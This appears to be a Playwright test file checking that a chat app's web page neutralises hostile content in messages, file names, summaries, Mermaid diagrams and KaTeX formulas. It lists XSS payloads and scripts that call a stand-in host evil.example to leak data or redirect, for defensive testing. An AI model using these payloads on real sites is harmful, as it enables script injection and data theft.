"""Hostile words do nothing, wherever they come from: user, model, tool, file name, title, summary."""

import json

import pytest
from playwright.sync_api import expect

from everlong.core import CallId, Image, Message, Role, Text, ToolCall, ToolResult
from everlong.llm import Answer, Refusal
from tests.web.boats import TALKS, WINDOW, fill
from tests.web.browser import PHONE, View, a_view, in_a_browser, the_page
from tests.web.running import an_app

FLAG = "window.broken=1"
#: What attackers write; each would set the flag or ask another server for something.
TRICKS = (
    f"<script>{FLAG}</script>",
    f"<img src=x onerror={FLAG}>",
    f"<svg onload={FLAG}><script>{FLAG}</script></svg>",
    f"<iframe srcdoc='<script>parent.{FLAG}</script>'></iframe>",
    f"<details open ontoggle={FLAG}>x</details>",
    f"<a href='javascript:{FLAG}'>press me</a>",
    f"[press me](javascript:{FLAG})",
    f"[press me](data:text/html,<script>{FLAG}</script>)",
    f'![alt](x"onerror="{FLAG})',
    "![picture](https://evil.example/pixel.png?secret=1)",
    "<img src='https://evil.example/pixel.png'>",
    "<link rel=stylesheet href='https://evil.example/style.css'><style>@import 'https://evil.example/x.css';</style>",
    "<form action='https://evil.example/'><button>press me</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={FLAG}>",
    f"```html\n<script>{FLAG}</script>\n```",
    f"`</code><script>{FLAG}</script>`",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<script src=/v1/evil.js></script><img src=/v1/evil.png><link rel=stylesheet href=/v1/evil.css>",
    "![picture](/v1/evil.png) ![picture](/everlong/api/threads) ![picture](/health)",
    "<iframe src=/v1/evil.html></iframe><object data=/v1/evil.svg></object><embed src=/v1/evil.html>",
    "<audio src=/v1/evil.mp3 autoplay></audio><video poster=/v1/evil.png></video>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x.png)'>over all</div>",
)
HOSTILE = "\n\n".join(TRICKS)
PRESS = "all => all.forEach(it => it.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})))"


def unbroken(view: View) -> None:
    """Press all that asks to be pressed; the page is still itself and nobody else was asked."""
    origin = view.page.evaluate("location.origin")
    view.log.get_by_text("press me").evaluate_all(PRESS)  # all in one step: rows that are drawn again stay out of it
    assert view.page.evaluate("window.broken") is None
    assert view.page.evaluate("location.origin") == origin == view.origin
    assert view.foreign() == []
    assert not [url for url in view.asked if "evil" in url or "/v1/" in url]
    inside = "main [role=log] :is(script, iframe, form[action], object, embed, base, meta, link, style)"
    assert view.page.locator(inside).count() == 0
    handlers = "all => all.filter(it => it.getAttributeNames().some(name => name.startsWith('on'))).length"
    assert view.log.locator("*").evaluate_all(handlers) == 0
    hrefs = view.log.locator("a[href]").evaluate_all("all => all.map(it => it.href)")
    assert not [href for href in hrefs if href.startswith(("javascript:", "data:"))]


@in_a_browser
def test_hostile_words_of_a_thread_do_nothing() -> None:
    call = CallId("c1")
    arguments = json.dumps({"path": HOSTILE})
    svg = Image(data="PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+", media_type="image/svg+xml")
    history = [
        Message(Role.USER, (Text(HOSTILE), svg, Image(url="https://evil.example/pixel.png"))),
        Message(Role.ASSISTANT, (Text(HOSTILE),)),
        Message(Role.ASSISTANT, (Text("I call."), ToolCall(call, f"look{TRICKS[1]}", arguments))),
        Message(Role.TOOL, (ToolResult(call, (Text(HOSTILE),), name=f"look{TRICKS[1]}"),)),
        Message(Role.ASSISTANT, (Text("The end of it."),)),
    ]
    # The policy of the page tells of the pictures that it kept out.
    with an_app(built=the_page()) as (app, _), a_view(app, complains=("Content Security Policy", "Refused to")) as view:
        thread = app.page().thread(f"A title {TRICKS[1]} {TRICKS[0]}")
        app.state.threads.append(thread, history)
        view.thread(thread)
        expect(view.log.get_by_text("The end of it.")).to_be_visible()
        card = view.log.get_by_role("button").filter(has_text="look")
        card.first.click()
        unbroken(view)
        view.to_first("<script>")
        unbroken(view)
        message = view.log.get_by_role("article").first
        message.hover()
        view.choose(message.get_by_role("button", name=view.word("chat.menu")).first, "chat.pin")
        expect(view.panel.get_by_role("button", name=view.like("panel.unpin_which"))).to_be_visible()
        view.page.keyboard.press("Control+k")
        expect(view.page.get_by_role("searchbox").first).to_be_focused()  # what is typed before goes elsewhere
        view.page.keyboard.type("press")
        expect(view.page.get_by_role("navigation").get_by_role("link").first).to_be_visible()
        unbroken(view)
        expect(view.page.get_by_role("navigation")).to_contain_text("<img src=x")


@in_a_browser
@pytest.mark.parametrize("growing", [True, False], ids=["piece by piece", "at once"])
def test_hostile_answers_and_file_names_do_nothing_as_they_come(growing: bool) -> None:
    answer = Answer(text=f"{HOSTILE}\n\nThe end of it.", thinking=HOSTILE, between=0.001 if growing else 0.0)
    with (
        an_app(lambda _: answer, built=the_page()) as (app, _),
        a_view(app, size=PHONE, complains=("Content Security Policy", "Refused to")) as view,
    ):
        view.open()
        view.page.locator("input[type=file]").set_input_files(
            [{"name": f"{TRICKS[1]}.txt".replace("/", ""), "mimeType": "text/plain", "buffer": HOSTILE.encode()}]
        )
        expect(view.page.get_by_role("list", name=view.word("composer.attached"))).to_contain_text("onerror")
        unbroken_before_rows = view.page.evaluate("window.broken")
        assert unbroken_before_rows is None
        view.say(HOSTILE)
        expect(view.log.get_by_text("The end of it.")).to_be_visible()
        view.answered()
        view.log.get_by_role("button", name=view.word("chat.thought")).click()
        unbroken(view)


@in_a_browser
def test_hostile_summaries_names_and_requests_do_nothing() -> None:
    """A model writes summaries and says its own name; whoever uses the gateway names models and paths as he likes."""
    name = TRICKS[1].replace("/", "")
    hostile = {"id": "r1", "time": 0, "model": HOSTILE, "upstream": HOSTILE, "status": 200, "path": HOSTILE}
    edits = [{"message": 0, "part": 0, "action": HOSTILE, "step": HOSTILE, "why": HOSTILE, "before": 9, "after": 5}]
    figures = {"tokens": {"before": 9, "after": 5, "saved": 4}, "edits": edits, "error": HOSTILE}
    more = {"recovered": 0, "added_ms": 1, "seconds": 1, "messages": 1, "window": {"tokens": 9, "source": HOSTILE}}
    with (
        an_app(TALKS, window=WINDOW, models=(name,), built=the_page()) as (app, _),
        a_view(app) as view,
    ):
        page = app.page()
        thread = page.thread(f"Boats {TRICKS[1]}")
        page.say(thread, " ".join(TRICKS[:8]))  # a summary repeats what was asked
        fill(page, thread, 3)
        page.compact(thread)
        view.thread(thread)
        view.summary().get_by_role("button").first.click()
        expect(view.summary()).to_contain_text("<img src=x")
        unbroken(view)
        for place, shown in (("#/usage", "onerror"), ("#/settings", ""), ("#/live", "evil.example")):
            view.open(place)
            if place == "#/live":
                expect(view.page.get_by_role("status").first).to_have_text(view.word("live.connected"))
                app.run(lambda: app.state.report_request({**hostile, **figures, **more}))
            expect(view.page.locator("main")).to_contain_text(shown)
            assert view.page.evaluate("window.broken") is None
            assert view.foreign() == []


#: Diagrams of an attacker: each would run something, load something, lead somewhere or never end.
DIAGRAMS = (
    f'graph TD\n  A[press me] --> B\n  click A "javascript:{FLAG}" _self',
    f'graph TD\n  A[press me] --> B\n  click A call eval("{FLAG}")',
    'graph TD\n  A[press me] --> B\n  click A href "https://evil.example/" _self',
    f'graph TD\n  A["<img src=x onerror=parent.{FLAG}>"] --> B["<script>parent.{FLAG}</script>"]',
    f"graph TD\n  A[\"<foreignObject><iframe srcdoc='<script>top.{FLAG}</script>'></iframe></foreignObject>\"]",
    f'%%{{init: {{"securityLevel": "loose", "htmlLabels": true}} }}%%\ngraph TD\n  A["<img src=x onerror=top.{FLAG}>"]',
    '%%{init: {"themeCSS": "* { background: url(https://evil.example/x.png) } @import \'https://evil.example/x\'"} }%%'
    "\ngraph TD\n  A --> B",
    "graph TD\n  A --> B\n  style A fill:url(https://evil.example/fill.svg)",
    f"sequenceDiagram\n  participant A as <svg onload=top.{FLAG}>\n"
    f"  A->>A: <a href='javascript:top.{FLAG}'>press me</a>",
    "graph TD\n" + "\n".join(f"  A{number} --> A{number + 1}" for number in range(1_000)),
    "graph TD\n  " + "A --> " * 3_000,
    "graph TD\n  A[" + "x" * 21_000 + "]",
)


@in_a_browser
def test_hostile_diagrams_do_nothing() -> None:
    messages = [Message(Role.ASSISTANT, (Text(f"```mermaid\n{diagram}\n```"),)) for diagram in DIAGRAMS]
    with an_app(built=the_page()) as (app, _), a_view(app, size=(1280, 9_000), complains=("/diagrams.html",)) as view:
        thread = app.page().thread("Diagrams")
        app.state.threads.append(thread, [Message(Role.USER, (Text("hi"),)), *messages])
        view.thread(thread)
        figures = view.log.locator("figure")
        expect(figures).to_have_count(len(DIAGRAMS))
        expect(view.log.locator("[aria-busy=true]")).to_have_count(0)  # each is drawn, or shown as its source
        assert view.log.locator("figure img").count() >= 6
        view.log.locator("figure img").evaluate_all(PRESS)
        view.page.keyboard.press("Escape")
        unbroken(view)
        assert view.log.locator("svg a, foreignObject").count() == 0


#: What a script could try that got into the frame that draws.
INSIDE_THE_FRAME = {
    "asks the app": "fetch('/everlong/api/state').then(() => 'did', () => 'held')",
    "asks another site": "fetch('https://evil.example/').then(() => 'did', () => 'held')",
    "reads the page": "(() => { try { return parent.document.title ? 'did' : 'did' } catch { return 'held' } })()",
    "leaves something": "(() => { try { localStorage.x = 1; return 'did' } catch { return 'held' } })()",
    "leads the reader away": """(() => { try { top.location = 'https://evil.example/'; return 'did' }
        catch { return 'held' } })()""",
    "opens a window": "window.open('https://evil.example/') ? 'did' : 'held'",
    "shows a picture": """new Promise(done => { const one = new Image(); one.onload = () => done('did');
        one.onerror = () => done('held'); one.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' })""",
    "runs another script": """new Promise(done => { const one = document.createElement('script');
        one.textContent = 'window.more = 1'; document.body.append(one); done(window.more ? 'did' : 'held') })""",
    "starts a worker": """(() => { try { new Worker('/sw.js'); return 'did' } catch { return 'held' } })()""",
}


@in_a_browser
def test_the_frame_that_draws_has_no_rights() -> None:
    with an_app(built=the_page()) as (app, _), a_view(app, complains=("",)) as view:
        thread = app.page().thread("A diagram")
        text = "```mermaid\ngraph TD\n  A --> B\n```"
        app.state.threads.append(thread, [Message(Role.USER, (Text("hi"),)), Message(Role.ASSISTANT, (Text(text),))])
        view.thread(thread)
        expect(view.log.locator("figure img")).to_be_visible()
        frame = next(one for one in view.page.frames if "diagrams" in one.url)
        told = {name: frame.evaluate(way) for name, way in INSIDE_THE_FRAME.items()}
        assert told == dict.fromkeys(INSIDE_THE_FRAME, "held")
        unbroken(view)
        policy = app.page().raw("GET", "/diagrams.html")[2]["content-security-policy"]
        assert "sandbox allow-scripts;" in policy
        assert "default-src 'none'" in policy
        # Nobody else's page may frame it; on its own it is an empty sheet.
        assert "frame-ancestors 'self'" in policy


#: Formulas of an attacker.
FORMULAS = (
    rf"$\href{{javascript:{FLAG}}}{{press}}$",
    r"$\url{https://evil.example/}$",
    r"$\includegraphics{https://evil.example/pixel.png}$",
    r"$\htmlStyle{position: fixed; inset: 0}{over}$",
    rf"$\htmlData{{x=1}}{{\text{{<img src=x onerror={FLAG}>}}}}$",
    rf"$\text{{<script>{FLAG}</script>}}$",
    r"$\def\a{\a\a}\a$",
    r"$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c}\d\d\d\d\d$",
    "$" + "{" * 1_500 + "x" + "}" * 1_500 + "$",
    r"$\rule{99999em}{99999em}$",
    r"$\kern-99999em\rule{9em}{9em}$",
    r"$\raisebox{999em}{\rule{9em}{9em}}$",
    "$" + "x^" * 1_900 + "x$",
)


@in_a_browser
def test_hostile_formulas_do_nothing_and_stay_in_their_place() -> None:
    text = "\n\n".join((*FORMULAS, "Then $x^2$. The end of it."))
    with an_app(built=the_page()) as (app, _), a_view(app, size=(800, 4_000)) as view:
        thread = app.page().thread("Formulas")
        app.state.threads.append(thread, [Message(Role.USER, (Text(text),)), Message(Role.ASSISTANT, (Text(text),))])
        view.thread(thread)
        expect(view.log.get_by_text("The end of it.").last).to_be_visible()
        expect(view.log.locator(".maths:not(.drawn)")).to_have_count(0)
        assert view.log.locator(".katex").count() >= 2
        unbroken(view)
        assert view.log.locator(".katex a[href], .katex img").count() == 0
        heights = view.log.locator("p .maths").evaluate_all("all => all.map(it => it.getBoundingClientRect().height)")
        assert max(heights) < 1_500, heights
        assert view.log.evaluate("box => box.scrollWidth <= box.clientWidth")


@in_a_browser
def test_an_upstreams_error_is_shown_whole_and_does_nothing() -> None:
    said = f'The model "m" of <b>"nobody"</b> is gone: {TRICKS[0]} {TRICKS[1]} it\'s "over"'
    refusal = Refusal(400, json.dumps({"error": {"message": said, "type": "invalid_request_error"}}))
    with an_app(lambda _: refusal, built=the_page()) as (app, _), a_view(app) as view:
        view.open()
        view.say("hello")
        view.log.get_by_text(view.word("failure.details"), exact=True).click()
        expect(view.page.get_by_text(said)).to_be_visible()
        unbroken(view)


@in_a_browser
def test_the_policy_stands_between_the_page_and_everything_else() -> None:
    with an_app(built=the_page()) as (app, _), a_view(app, complains=("Content Security Policy", "Refused to")) as view:
        answer = view.page.goto(view.origin)
        assert answer is not None
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        # Even a script that found its way in could not reach out, nor start another.
        outside = "fetch('https://evil.example/').then(() => 'went out', () => 'held back')"
        assert view.page.evaluate(outside) == "held back"
        view.page.evaluate(f"document.body.appendChild(document.createElement('script')).textContent = '{FLAG}'")
        assert view.page.evaluate("window.broken") is None
        assert view.foreign() == []
